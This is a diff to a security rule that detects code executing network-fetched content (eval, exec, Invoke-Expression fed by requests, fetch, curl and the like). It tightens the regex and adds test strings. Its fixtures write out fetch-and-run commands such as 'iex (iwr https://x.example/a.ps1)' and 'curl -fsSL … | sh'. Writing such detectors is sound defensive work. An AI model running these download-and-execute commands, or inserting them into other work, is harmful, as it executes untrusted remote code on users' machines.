@@ -34,7 +34,7 @@ export default defineRule({
     "invoke-expression",
   ],
   match: scan(
-    /\b(?:eval|exec|execSync|Function|compile|vm\.runIn\w{0,20}|loadstring|instance_eval|class_eval|subprocess\.(?:run|call|Popen|check_output)|os\.system|iex|Invoke-Expression)\s?\(?[^\n]{0,30}?(?:\bawait\b\s?)?(?:\(\s?)?(?:requests\.(?:get|post)|urlopen|httpx\.get|fetch\(|axios\.get|http\.get|URI\.open|Net::HTTP\.get|file_get_contents\(\s?["']https?|response\.(?:text|content|body|data)|resp\.(?:text|content)|res\.(?:data|text)|r\.text|DownloadString|(?:iwr|irm|curl)\s)/i,
+    /\b(?:eval|exec|execSync|Function|compile|vm\.runIn\w{0,20}|loadstring|instance_eval|class_eval|subprocess\.(?:run|call|Popen|check_output)|os\.system|iex|Invoke-Expression)[ \t]?\(?[^\n]{0,30}?(?:\bawait\b\s?)?(?:\(\s?)?(?:requests\.(?:get|post)|urlopen|httpx\.get|fetch\(|axios\.get|http\.get|URI\.open|Net::HTTP\.get|file_get_contents\(\s?["']https?|response\.(?:text|content|body|data)|resp\.(?:text|content)|res\.(?:data|text)|r\.text|DownloadString|(?:iwr|irm|curl)\s)/i,
     (match, { text }) =>
       !isNegated(text, match.index) && isAimed(match, text) &&
       !/\b(?:regexp?|pattern|re|cursor|query|stmt|RegExp)\.exec\b|\.exec\(/.test(
@@ -49,6 +49,10 @@ export default defineRule({
       { text: "iex (iwr https://x.example/a.ps1)", kind: "command" },
     ],
     passes: [
+      {
+        text: "Windows: irm https://tool.example/i.ps1 | iex\nLinux: curl -fsSL https://tool.example/i.sh | sh",
+        kind: "document",
+      },
       { text: "data = json.loads(requests.get(url).text)", kind: "document" },
       { text: "re.exec(response.text)", kind: "document" },
       "Never eval(response.text) of a request.",
